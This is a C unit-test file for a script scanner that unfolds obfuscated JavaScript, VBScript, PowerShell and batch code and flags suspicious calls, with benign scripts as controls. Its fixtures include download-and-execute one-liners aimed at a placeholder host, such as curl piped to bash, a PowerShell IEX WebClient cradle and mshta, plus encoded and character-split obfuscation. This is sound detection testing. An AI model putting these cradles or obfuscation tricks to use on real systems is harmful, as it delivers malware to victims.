/* test_script_reader.c - scripts of systems: what they call and hide, and ordinary ones that must not alarm. */
#include "exam_test.h"

#include "markup/encoded.h"
#include "markup/fold.h"
#include "markup/markup.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#define COUNT(a) (sizeof(a) / sizeof((a)[0]))

static void test_fold(void **state)
{
	static const struct {
		enum fold_language language;
		const char *script, *folded;
	} samples[] = {
		{ FOLD_JAVASCRIPT, "a='W'+\"Scr\" +\n'ipt'+x", "a=\"WScript\"+x" },
		{ FOLD_JAVASCRIPT, "'\\x41\\u0042\\n\\q'", "\"AB\nq\"" },
		{ FOLD_JAVASCRIPT, "String.fromCharCode(0x68,105)+'!'", "\"hi!\"" },
		{ FOLD_JAVASCRIPT, "it's\nnext `a\"b`", "it\"s\"next \"a'b\"" },
		{ FOLD_BASIC, "x = Chr(87) & \"S\" & _\n ChrW(&H63) & \"a\"\"b\" ' note", "x = \"WSca'b\" ' note" },
		{ FOLD_BASIC, "Chr(y) & Chr(60+5)", "Chr(y) & \"A\"" },
		{ FOLD_POWERSHELL, "I`E`X ('Down'+'load')", "IEX (\"Download\")" },
		{ FOLD_POWERSHELL, "[char]73+[char](69)+\"`x\"; [char[]](88,89)", "\"IEx\"; \"XY\"" },
		{ FOLD_BATCH, "p^ow^ershell \"a^b\"", "powershell \"a^b\"" },
	};
	struct arena arena;

	(void)state;
	assert_true(arena_open(&arena, 1 << 20));
	for (size_t i = 0; i < COUNT(samples); i++) {
		struct folded folded = script_fold(text_span(samples[i].script), samples[i].language, &arena);

		if (!span_equal(folded.text, text_span(samples[i].folded)))
			fail_msg("%s gives %.*s", samples[i].script, (int)folded.text.len, folded.text.ptr);
	}
	arena_close(&arena);
}

static void test_encoded(void **state)
{
	struct arena arena;

	(void)state;
	assert_true(arena_open(&arena, 1 << 20));
	assert_true(span_equal(script_decode(text_span("a #@~^BgAAAA==\\ko$K6AgIAAA==^#~@ b"), &arena),
			       text_span("a MsgBox b")));
	assert_true(span_equal(script_decode(text_span("#@~^AAAAAA==@!@*@$@#@&"), &arena), (struct span){ 0 }) ||
		    arena.used > 0);
	assert_int_equal(script_decode(text_span("nothing encoded"), &arena).len, 0);
	arena_close(&arena);
}

struct sample {
	const char *name, *script;
	enum finding_id id; /* MORE: nothing */
	const char *evidence;
};

static void expect(const struct sample *samples, size_t count)
{
	struct exam_test *t = exam_test_new();

	for (size_t i = 0; i < count; i++) {
		exam_test_open(t, markup_script, text_span(samples[i].script), samples[i].name);
		if (samples[i].id == FINDINGS ? t->exam.found_count > 0
						  : !exam_test_found(t, samples[i].id, samples[i].evidence)) {
			exam_test_show(t);
			fail_msg("%s: %s", samples[i].name, samples[i].script);
		}
	}
	exam_test_free(t);
}

static void test_calls(void **state)
{
	static const struct sample samples[] = {
		{ "a.js",
		  "var s=new ActiveXObject('WScr'+'ipt.Shell');var x=new ActiveXObject('MSXML2.XMLHTTP');s.Run(x)",
		  FINDING_SCRIPT_COMMAND, "WScript.Shell" },
		{ "a.vbs", "Set s=CreateObject(StrReverse(\"llehS.tpircSW\"))\nSet h=CreateObject(\"WScript.Shell\")",
		  FINDING_SCRIPT_COMMAND, "StrReverse" },
		{ "a.vbs", "Set s=CreateObject(Chr(87)&\"Script.Shell\"):Set a=CreateObject(\"ADODB.Stream\")",
		  FINDING_SCRIPT_COMMAND, "WScript.Shell" },
		{ "a.ps1", "I`EX (New-Object Net.WebClient).Down`loadString('http://192.0.2.7/a')",
		  FINDING_SCRIPT_COMMAND, "IEX" },
		{ "a.bat", "@echo off\r\np^owers^hell -w hidden -nop -c \"iwr http://192.0.2.7/a\"\r\n",
		  FINDING_SCRIPT_COMMAND, "powershell" },
		{ "a.bat", "mshta http://192.0.2.7/a.hta & schtasks /create /tn x", FINDING_SCRIPT_COMMAND, "mshta" },
		{ "a.cmd", "certutil -decode a.txt a.exe", FINDING_SCRIPT_COMMAND, "certutil" },
		{ "a.sh", "#!/bin/sh\ncurl -s http://192.0.2.7/a | bash", FINDING_SCRIPT_COMMAND, "curl" },
		{ "a.wsf",
		  "<job><script language='JScript'>new ActiveXObject('WScript.Shell').Run('bitsadmin "
		  "/transfer')</script></job>",
		  FINDING_SCRIPT_COMMAND, "WScript.Shell" },
		{ "a.bat", "powershell -File b.ps1 & cscript c.vbs", FINDING_SCRIPT_CALLS, "powershell" },
		/* what administrators and web projects have */
		{ "a.bat", "@echo off\r\nxcopy /s \\\\server\\share d:\\backup\r\npause\r\n", FINDINGS, "" },
		{ "a.sh", "#!/bin/sh\nset -e\nwget https://shop.example/a.tar.gz\ntar xf a.tar.gz | sort\n",
		  FINDINGS, "" },
		{ "a.py", "import subprocess, urllib.request\nsubprocess.run(['ls'])\n", FINDINGS, "" },
		{ "jquery.js",
		  "(function(w){'use strict';var r=/a/.exec(s);w.$=function(q){return "
		  "document.querySelector(q)}})(window);",
		  FINDINGS, "" },
		{ "a.js",
		  "module.exports = {run: function() { return 'x' + \"y\" + 'z' }, url: 'https://shop.example/'}",
		  FINDINGS, "" },
		{ "a.ps1", "Get-ChildItem | Where-Object { $_.Length -gt 10 } | Export-Csv a.csv", FINDINGS, "" },
	};

	(void)state;
	expect(samples, COUNT(samples));
}

static void test_hidden(void **state)
{
	static const struct sample samples[] = {
		/* "IEX (New-Object Net.WebClient)" in UTF-16 */
		{ "a.bat",
		  "powershell -NoP -eNc "
		  "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
		  FINDING_SCRIPT_HIDDEN, "IEX (New-Object Net.WebClient)" },
		{ "a.bat",
		  "powershell -NoP -eNc "
		  "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
		  FINDING_SCRIPT_COMMAND, "IEX (New-Object" },
		{ "a.vbs",
		  "x=Chr(72)&Chr(101)&Chr(108)&Chr(108)&Chr(111)&Chr(72)&Chr(101)&Chr(108)&Chr(108)&Chr(111)&Chr(72)&"
		  "Chr(101)&Chr(108)&Chr(108)&Chr(111)&"
		  "Chr(72)&Chr(101)&Chr(108)&Chr(108)&Chr(111)&Chr(33)",
		  FINDING_SCRIPT_HIDDEN, "21 letters" },
		{ "a.bat", "s^e^t a=b\r\ne^c^h^o %a%\r\np^i^n^g x^y^z", FINDING_SCRIPT_HIDDEN, "signs" },
		{ "a.jse", "#@~^BgAAAA==\\ko$K6AgIAAA==^#~@", FINDING_SCRIPT_HIDDEN, "MsgBox" },
		{ "a.ps1",
		  "$u=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
		  "aHR0cDovLzE5Mi4wLjIuNy9sb25nZXIvbmFtZS5leGU='))",
		  FINDING_SCRIPT_HIDDEN, "http://192.0.2.7/longer/name.exe" },
		{ "a.vbs", "MsgBox \"Hello\" & Chr(13) & Chr(10) & \"World\"", FINDINGS, "" },
		{ "a.bat", "echo a ^& b ^| c", FINDINGS, "" },
		{ "a.js", "var escape = {'\\u00e4': 'ae', '\\x0a': '\\n'}", FINDINGS, "" },
	};

	(void)state;
	expect(samples, COUNT(samples));
}

static void test_links(void **state)
{
	struct exam_test *t = exam_test_new();

	(void)state;
	exam_test_open(t, markup_script, text_span("u = \"ht\" & \"tp://192.0.2.7/\" & \"a.exe\""), "a.vbs");
	assert_true(exam_test_url(t, "http://192.0.2.7/a.exe"));
	exam_test_open(t, markup_script,
		       text_span("\xff\xfe"
				 "i\0e\0x\0 \0i\0w\0r\0"),
		       "a.ps1"); /* ends at the zero: not UTF-16 to its end */
	exam_test_free(t);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_fold),   cmocka_unit_test(test_encoded), cmocka_unit_test(test_calls),
		cmocka_unit_test(test_hidden), cmocka_unit_test(test_links),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
